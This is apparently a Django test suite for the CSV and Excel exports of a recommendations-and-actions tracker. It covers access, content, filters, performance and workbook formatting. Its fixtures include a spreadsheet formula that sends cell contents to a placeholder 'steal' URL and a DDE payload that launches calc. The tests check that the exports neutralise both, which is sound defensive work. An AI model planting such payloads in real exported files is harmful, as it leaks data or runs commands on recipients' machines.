"""CSV and Excel downloads of the action, recommendation and update lists."""

from __future__ import annotations

import csv
import datetime
import io
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from django.http import StreamingHttpResponse
from django.urls import reverse
from django.utils import timezone

from agencies.models import Agency
from recommendations import intervals
from recommendations.models import Action, Recommendation, Status, UpdateKind
from tests.factories import (
    ActionFactory,
    EvidenceFactory,
    InspectionFactory,
    RecommendationFactory,
    UpdateFactory,
    UserFactory,
    derived_once,
)

pytestmark = pytest.mark.django_db

LONDON = ZoneInfo("Europe/London")
D = datetime.date.fromisoformat
EXPORTS = ["export_actions", "export_recommendations", "export_updates"]
FORMATS = ["csv", "xlsx"]

ACTION_HEADERS = [
    "Report",
    "Reference",
    "Recommendation",
    "Agency",
    "Owner",
    "What the agency will do",
    "Due date",
    "Status",
    "Overdue",
    "Days overdue",
    "Delivery confidence",
    "Percent complete",
    "Latest update",
    "Next milestone due",
    "Voice of children and families",
    "What would show it made a difference",
    "Impact evidenced",
    "Link",
]
RECOMMENDATION_HEADERS = [
    "Report",
    "Published",
    "Reference",
    "Kind",
    "Wording",
    "Illustrative: not the published wording",
    "Graded area",
    "Response",
    "Target date",
    "Agencies addressed",
    "Agencies assured",
    "Link",
]
UPDATE_HEADERS = [
    "Time",
    "Report",
    "Reference",
    "Agency",
    "Author",
    "Kind",
    "Narrative",
    "Delivery confidence",
    "Percent complete",
    "Status from",
    "Status to",
    "Due date from",
    "Due date to",
    "Latest value of the impact measure",
    "Evidence files",
    "Link",
]
HEADERS = {
    "export_actions": ACTION_HEADERS,
    "export_recommendations": RECOMMENDATION_HEADERS,
    "export_updates": UPDATE_HEADERS,
}

FORMULA = '=HYPERLINK("https://example.org/steal?d="&A1,"Open")'


@pytest.fixture(autouse=True)
def _plain_http_and_one_factor(settings):
    """These tests are about the files: sign-in hardening has tests of its own."""
    settings.SECURE_SSL_REDIRECT = False
    settings.TWO_FACTOR_REQUIRED = False


def at(day: str, hour: int = 12) -> datetime.datetime:
    return datetime.datetime.combine(D(day), datetime.time(hour), LONDON)


def download(response) -> bytes:
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def csv_rows(response) -> list[list[str]]:
    body = download(response)
    assert body.startswith("\ufeff".encode())  # so that Excel reads UTF-8
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def xlsx_rows(response) -> list[list]:
    sheet = openpyxl.load_workbook(io.BytesIO(download(response))).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def as_dicts(rows: list[list]) -> list[dict]:
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


@pytest.fixture
@derived_once()
def records(agency, other_agency):
    """Two reports, three recommendations and four actions with a short history:

    - GMP's R1 action: created 10 Jan 2025, in progress amber 40% on 1 Feb, due date moved
      from 31 Mar to 30 Jun on 1 Mar, submitted on 1 Apr (with evidence);
    - Rochdale's R1 action: not started, due 31 Mar 2025;
    - GMP's R2 action: assured; R2's wording is a spreadsheet formula;
    - Rochdale's R3 action, owned by "@mallory", with text that starts with + and -.
    """
    author = UserFactory(username="ada.author", first_name="Ada", last_name="Author")
    first = InspectionFactory(title="Part Four", published_on=D("2024-12-13"))
    second = InspectionFactory(title="-Peer review letter", published_on=D("2025-07-01"))
    r1 = RecommendationFactory(inspection=first, reference="R1", wording="Share data between partners.")
    r2 = RecommendationFactory(inspection=first, reference="R2", wording=FORMULA)
    r3 = RecommendationFactory(inspection=second, reference="R3", wording="@SUM(1+1)*cmd|' /C calc'!A0")
    gmp_r1 = ActionFactory(
        recommendation=r1,
        agency=agency,
        status=Status.SUBMITTED,
        confidence="green",
        percent_complete=100,
        due_date=D("2025-06-30"),
        created_at=at("2025-01-10"),
    )
    roch_r1 = ActionFactory(
        recommendation=r1, agency=other_agency, due_date=D("2025-03-31"), created_at=at("2025-01-10")
    )
    gmp_r2 = ActionFactory(
        recommendation=r2,
        agency=agency,
        status=Status.ASSURED,
        confidence="green",
        percent_complete=100,
        due_date=D("2025-09-30"),
        created_at=at("2025-01-10"),
    )
    roch_r3 = ActionFactory(
        recommendation=r3,
        agency=other_agency,
        owner=UserFactory(username="@mallory", first_name="@mallory", last_name=""),
        description="+44 161 000 0000 is the number to call",
        due_date=D("2026-01-31"),
        created_at=at("2025-07-02"),
    )
    UpdateFactory(
        action=gmp_r1,
        author=author,
        kind=UpdateKind.PROGRESS,
        narrative="-1 step back, then two forward.",
        confidence="amber",
        percent_complete=40,
        status_from=Status.NOT_STARTED,
        status_to=Status.IN_PROGRESS,
        created_at=at("2025-02-01", 9),
    )
    UpdateFactory(
        action=gmp_r1,
        author=author,
        kind=UpdateKind.DUE_DATE,
        narrative="Training slipped.",
        confidence="",
        percent_complete=None,
        due_date_from=D("2025-03-31"),
        due_date_to=D("2025-06-30"),
        created_at=at("2025-03-01"),
    )
    submitted = UpdateFactory(
        action=gmp_r1,
        author=author,
        kind=UpdateKind.PROGRESS,
        narrative=FORMULA,
        confidence="green",
        percent_complete=100,
        status_from=Status.IN_PROGRESS,
        status_to=Status.SUBMITTED,
        created_at=at("2025-04-01"),
    )
    EvidenceFactory(update=submitted)
    EvidenceFactory(update=submitted, original_name="audit.pdf")
    return {"gmp_r1": gmp_r1, "roch_r1": roch_r1, "gmp_r2": gmp_r2, "roch_r3": roch_r3}


@pytest.fixture
def signed_in(client, oversight):
    client.force_login(oversight)
    return client


# -- Access -------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", EXPORTS)
@pytest.mark.parametrize("persona", ["contributor", "lead", "outsider", "oversight", "admin_user"])
def test_every_partner_oversight_and_administrators_may_download(client, request, records, name, persona):
    client.force_login(request.getfixturevalue(persona))

    response = client.get(reverse(name, args=["csv"]))

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"


@pytest.mark.parametrize("name", EXPORTS)
def test_someone_with_no_membership_may_not_download(client, records, name):
    client.force_login(UserFactory(username="nia.newcomer"))

    assert client.get(reverse(name, args=["csv"])).status_code == 404
    assert client.get(reverse(name, args=["xlsx"])).status_code == 404


@pytest.mark.parametrize("name", EXPORTS)
def test_signed_out_visitors_are_sent_to_sign_in_before_downloading(client, records, name):
    response = client.get(reverse(name, args=["csv"]))

    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login") + "?next=")


def test_an_inactive_persons_download_is_refused(client, contributor, records):
    client.force_login(contributor)
    contributor.is_active = False
    contributor.save()

    response = client.get(reverse("export_actions", args=["csv"]))

    assert response.status_code == 302


# -- Content ------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", EXPORTS)
def test_the_csv_has_plain_english_headers_and_streams(signed_in, records, name):
    response = signed_in.get(reverse(name, args=["csv"]))

    assert isinstance(response, StreamingHttpResponse)
    today = timezone.localdate().isoformat()
    stem = name.removeprefix("export_")
    assert response["Content-Disposition"] == f'attachment; filename="{stem}-{today}.csv"'
    assert csv_rows(response)[0] == HEADERS[name]


@pytest.mark.parametrize("name", EXPORTS)
def test_the_excel_file_opens_with_the_same_headers(signed_in, records, name):
    response = signed_in.get(reverse(name, args=["xlsx"]))

    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    today = timezone.localdate().isoformat()
    assert f'filename="{name.removeprefix("export_")}-{today}.xlsx"' in response["Content-Disposition"]
    assert xlsx_rows(response)[0] == HEADERS[name]


def test_the_actions_csv_has_one_row_per_action_with_iso_dates_and_labels(signed_in, records):
    rows = as_dicts(csv_rows(signed_in.get(reverse("export_actions", args=["csv"]))))

    by_key = {(r["Reference"], r["Agency"]): r for r in rows}
    assert len(rows) == 4
    assert by_key["R1", "Greater Manchester Police"] == {
        "Report": "Part Four",
        "Reference": "R1",
        "Recommendation": "Share data between partners.",
        "Agency": "Greater Manchester Police",
        "Owner": "",
        "What the agency will do": "Agree one case-file audit tool with the other partners.",
        "Due date": "2025-06-30",
        "Status": "Submitted for assurance",
        "Overdue": "No",
        "Days overdue": "",
        "Delivery confidence": "Green: on track",
        "Percent complete": "100",
        # The latest narrative written: a formula, defused.
        "Latest update": "'" + FORMULA,
        "Next milestone due": "",
        "Voice of children and families": "",
        "What would show it made a difference": "",
        "Impact evidenced": "No",
        "Link": f"http://testserver/actions/{records['gmp_r1'].pk}/",
    }
    assert by_key["R1", "Rochdale Council"]["Status"] == "Not started"
    assert by_key["R1", "Rochdale Council"]["Delivery confidence"] == ""


def test_the_recommendations_csv_counts_the_agencies_addressed_and_assured(signed_in, records):
    rows = as_dicts(csv_rows(signed_in.get(reverse("export_recommendations", args=["csv"]))))

    assert [(r["Reference"], r["Agencies addressed"], r["Agencies assured"]) for r in rows] == [
        ("R3", "1", "0"),  # the newer report first
        ("R1", "2", "0"),
        ("R2", "1", "1"),
    ]
    assert rows[1]["Published"] == "2024-12-13"
    assert rows[1]["Target date"] == "2025-06-11"
    assert rows[1]["Kind"] == "Recommendation"
    assert rows[1]["Response"] == "Awaiting response"


def test_the_updates_csv_gives_times_and_dates_in_iso_format(signed_in, records):
    rows = as_dicts(csv_rows(signed_in.get(reverse("export_updates", args=["csv"]))))

    assert [r["Time"] for r in rows] == [
        "2025-02-01T09:00:00+00:00",
        "2025-03-01T12:00:00+00:00",
        "2025-04-01T12:00:00+01:00",  # British Summer Time
    ]
    assert (rows[1]["Due date from"], rows[1]["Due date to"], rows[1]["Kind"]) == (
        "2025-03-31",
        "2025-06-30",
        "Due date changed",
    )
    assert (rows[0]["Status from"], rows[0]["Status to"]) == ("Not started", "In progress")
    assert [r["Evidence files"] for r in rows] == ["0", "0", "2"]
    assert rows[0]["Author"] == "Ada Author"  # by name, not by sign-in


def test_formulas_are_neutralised_in_the_csv(signed_in, records):
    actions = as_dicts(csv_rows(signed_in.get(reverse("export_actions", args=["csv"]))))
    updates = as_dicts(csv_rows(signed_in.get(reverse("export_updates", args=["csv"]))))
    recommendations = as_dicts(csv_rows(signed_in.get(reverse("export_recommendations", args=["csv"]))))

    r2 = next(r for r in actions if r["Reference"] == "R2")
    r3 = next(r for r in actions if r["Reference"] == "R3")
    assert r2["Recommendation"] == "'" + FORMULA
    assert r3["Recommendation"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert r3["Owner"] == "'@mallory"
    assert r3["What the agency will do"] == "'+44 161 000 0000 is the number to call"
    assert r3["Report"] == "'-Peer review letter"
    assert [r["Narrative"] for r in updates] == [
        "'-1 step back, then two forward.",
        "Training slipped.",
        "'" + FORMULA,
    ]
    assert {r["Reference"]: r["Wording"] for r in recommendations}["R2"] == "'" + FORMULA


def test_formulas_are_neutralised_in_the_excel_file(signed_in, records):
    response = signed_in.get(reverse("export_actions", args=["xlsx"]))
    sheet = openpyxl.load_workbook(io.BytesIO(download(response))).active

    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)}
    assert "'" + FORMULA in cells
    assert cells["'" + FORMULA].data_type == "s"  # text, not a formula
    assert "'@mallory" in cells
    assert "'+44 161 000 0000 is the number to call" in cells
    assert not any(value.startswith(("=", "+", "-", "@")) for value in cells)

    updates = xlsx_rows(signed_in.get(reverse("export_updates", args=["xlsx"])))
    assert updates[3][UPDATE_HEADERS.index("Narrative")] == "'" + FORMULA


def test_the_excel_file_gives_real_dates_and_numbers(signed_in, records):
    rows = as_dicts(xlsx_rows(signed_in.get(reverse("export_actions", args=["xlsx"]))))

    # openpyxl reads an Excel date back as a datetime at midnight.
    assert sorted(r["Due date"].date() for r in rows) == [
        D("2025-03-31"),
        D("2025-06-30"),
        D("2025-09-30"),
        D("2026-01-31"),
    ]
    assert sorted(r["Percent complete"] for r in rows) == [0, 0, 100, 100]


# -- Filters ------------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", FORMATS)
def test_the_agency_filter_applies_to_the_export(signed_in, records, other_agency, fmt):
    response = signed_in.get(reverse("export_actions", args=[fmt]), {"agency": other_agency.pk})

    rows = as_dicts(csv_rows(response) if fmt == "csv" else xlsx_rows(response))
    assert sorted(r["Reference"] for r in rows) == ["R1", "R3"]
    assert {r["Agency"] for r in rows} == {"Rochdale Council"}


def test_the_status_filter_applies_to_the_export(signed_in, records):
    response = signed_in.get(reverse("export_actions", args=["csv"]), {"status": ["submitted", "assured"]})

    rows = as_dicts(csv_rows(response))
    assert sorted((r["Reference"], r["Status"]) for r in rows) == [
        ("R1", "Submitted for assurance"),
        ("R2", "Assured"),
    ]


def test_the_actions_export_as_at_a_past_day_gives_the_state_then(signed_in, records, agency):
    response = signed_in.get(
        reverse("export_actions", args=["csv"]), {"as_at": "2025-02-15", "agency": agency.pk}
    )

    rows = as_dicts(csv_rows(response))
    assert response["Content-Disposition"] == 'attachment; filename="actions-2025-02-15.csv"'
    r1 = next(r for r in rows if r["Reference"] == "R1")
    assert (r1["Status"], r1["Delivery confidence"], r1["Percent complete"], r1["Due date"]) == (
        "In progress",
        "Amber: at risk",
        "40",
        "2025-03-31",  # the due date then, before it was moved
    )
    assert len(rows) == 2


def test_the_actions_export_as_at_a_day_leaves_out_later_actions(signed_in, records):
    rows = as_dicts(csv_rows(signed_in.get(reverse("export_actions", args=["csv"]), {"as_at": "2025-07-01"})))

    assert sorted(r["Reference"] for r in rows) == ["R1", "R1", "R2"]


def test_the_updates_export_as_at_a_day_leaves_out_later_updates(signed_in, records):
    rows = as_dicts(csv_rows(signed_in.get(reverse("export_updates", args=["csv"]), {"as_at": "2025-03-15"})))

    assert [r["Kind"] for r in rows] == ["Progress update", "Due date changed"]


def test_the_updates_export_follows_the_action_filters(signed_in, records, other_agency):
    rows = csv_rows(signed_in.get(reverse("export_updates", args=["csv"]), {"agency": other_agency.pk}))

    assert rows == [UPDATE_HEADERS]


def test_the_recommendations_export_follows_its_filters(signed_in, records, other_agency):
    rows = as_dicts(
        csv_rows(signed_in.get(reverse("export_recommendations", args=["csv"]), {"agency": other_agency.pk}))
    )

    assert [r["Reference"] for r in rows] == ["R3", "R1"]


def test_an_export_as_at_a_malformed_day_gives_todays_rows(signed_in, records):
    rows = as_dicts(csv_rows(signed_in.get(reverse("export_actions", args=["csv"]), {"as_at": "2025-13-01"})))

    assert len(rows) == 4


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("name", EXPORTS)
def test_an_export_with_no_rows_has_the_headers_only(signed_in, records, name, fmt):
    response = signed_in.get(reverse(name, args=[fmt]), {"q": "no recommendation says this"})

    rows = csv_rows(response) if fmt == "csv" else xlsx_rows(response)
    assert rows == [HEADERS[name]]


@pytest.mark.parametrize("fmt", FORMATS)
def test_an_export_of_an_empty_tracker_has_the_headers_only(signed_in, fmt):
    response = signed_in.get(reverse("export_actions", args=[fmt]))

    rows = csv_rows(response) if fmt == "csv" else xlsx_rows(response)
    assert rows == [ACTION_HEADERS]


# -- Size -----------------------------------------------------------------------------------------


def add_actions(count: int, *, agencies: int = 10) -> None:
    """``count`` actions in bulk: ``count / agencies`` recommendations, each addressed to every agency."""
    inspection = InspectionFactory()
    partners = Agency.objects.bulk_create(
        Agency(
            name=f"Bulk partner {count}-{n}",
            short_name=f"B{count}-{n}",
            slug=f"bulk-{count}-{n}",
            kind="other",
        )
        for n in range(agencies)
    )
    recommendations = Recommendation.objects.bulk_create(
        Recommendation(inspection=inspection, reference=f"B{n}", wording=f"-Bulk recommendation {n}")
        for n in range(count // agencies)
    )
    statuses = Status.values
    created = Action.objects.bulk_create(
        Action(
            recommendation=recommendation,
            agency=partner,
            due_date=D("2025-03-01") + datetime.timedelta(days=n % 400),
            original_due_date=D("2025-03-01") + datetime.timedelta(days=n % 400),
            status=statuses[n % 4],
            created_at=at("2025-01-10"),
        )
        for n, (recommendation, partner) in enumerate((r, p) for r in recommendations for p in partners)
    )
    # Bulk-written behind the write path, as generate_scale does: derive their intervals.
    intervals.rebuild(a.pk for a in created)


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("as_at", [None, "2025-06-30"])
def test_a_large_export_costs_no_more_queries_than_a_small_one(
    signed_in, fmt, as_at, django_assert_max_num_queries
):
    url = reverse("export_actions", args=[fmt])
    params = {"as_at": as_at} if as_at else {}
    add_actions(20)
    with django_assert_max_num_queries(12) as small:
        assert (
            len(
                as_dicts(
                    csv_rows(signed_in.get(url, params))
                    if fmt == "csv"
                    else xlsx_rows(signed_in.get(url, params))
                )
            )
            == 20
        )

    add_actions(2000)
    with django_assert_max_num_queries(len(small.captured_queries)):
        response = signed_in.get(url, params)
        rows = csv_rows(response) if fmt == "csv" else xlsx_rows(response)

    assert len(rows) == 1 + 2020
    assert rows[-1][2].startswith("'-Bulk recommendation")


# -- Excel people can work in (issue 15) --------------------------------------------------------


def workbook(response):
    return openpyxl.load_workbook(io.BytesIO(download(response)))


def test_the_excel_file_opens_on_its_rows_ready_to_work_in(signed_in, records):
    book = workbook(
        signed_in.get(reverse("export_actions", args=["xlsx"]), {"agency": records["roch_r1"].agency_id})
    )

    assert book.sheetnames == ["About", "Actions"]
    sheet = book.active
    assert sheet.title == "Actions"
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:{openpyxl.utils.get_column_letter(len(ACTION_HEADERS))}3"
    assert all(cell.font.bold for cell in sheet[1])
    widths = {letter: sheet.column_dimensions[letter].width for letter in ("A", "C", "F")}
    assert widths == {"A": 30, "C": 50, "F": 50}
    rows = as_dicts([[c.value for c in row] for row in sheet.iter_rows()])
    by_reference = {r["Reference"]: r for r in rows}
    overdue = by_reference["R1"]
    # Not started and due 31 March 2025: overdue, by the days since.
    assert (overdue["Overdue"], overdue["Days overdue"]) == (
        "Yes",
        (timezone.localdate() - D("2025-03-31")).days,
    )
    assert by_reference["R3"]["Owner"] == "'@mallory"
    link = sheet.cell(row=2, column=len(ACTION_HEADERS))
    assert link.hyperlink.target == link.value and link.value.startswith("http://testserver/actions/")
    due = sheet.cell(row=2, column=ACTION_HEADERS.index("Due date") + 1)
    assert isinstance(due.value, datetime.datetime) and due.number_format == "d mmm yyyy"


def test_the_about_sheet_says_what_the_file_is_and_which_filters_made_it(signed_in, records, oversight):
    oversight.first_name, oversight.last_name = "Olu", "Okafor"
    oversight.save()
    response = signed_in.get(
        reverse("export_actions", args=["xlsx"]), {"status": ["not_started"], "as_at": "2025-07-01"}
    )
    about = {
        row[0]: row[1] for row in workbook(response)["About"].iter_rows(values_only=True) if row and row[0]
    }

    assert about["What this is"].startswith("One row per agency's action")
    assert about["By"] == "Olu Okafor"
    assert isinstance(about["Produced"], datetime.datetime)
    assert about["Figures as at"].date() == D("2025-07-01")
    assert about["Filters"] == "Status: Not started"


def test_people_are_named_by_their_names_and_times_are_london_times(signed_in, records):
    sheet = workbook(signed_in.get(reverse("export_updates", args=["xlsx"]))).active
    rows = as_dicts([[c.value for c in row] for row in sheet.iter_rows()])

    assert {r["Author"] for r in rows} == {"Ada Author"}
    # 9am in London on 1 February 2025 (GMT), as a plain Excel date and time.
    assert rows[0]["Time"] == datetime.datetime(2025, 2, 1, 9, 0)
    csv_first = as_dicts(csv_rows(signed_in.get(reverse("export_updates", args=["csv"]))))[0]
    assert (csv_first["Author"], csv_first["Time"]) == ("Ada Author", "2025-02-01T09:00:00+00:00")


def test_the_assurance_queue_downloads_for_the_assurance_team(signed_in, records):
    rows = as_dicts(xlsx_rows(signed_in.get(reverse("export_queue", args=["xlsx"]))))

    assert [(r["Reference"], r["Agency"], r["Evidence files"]) for r in rows] == [
        ("R1", "Greater Manchester Police", 2)
    ]
    assert rows[0]["Submitted"] == datetime.datetime(2025, 4, 1, 12, 0)  # noon in London (BST)
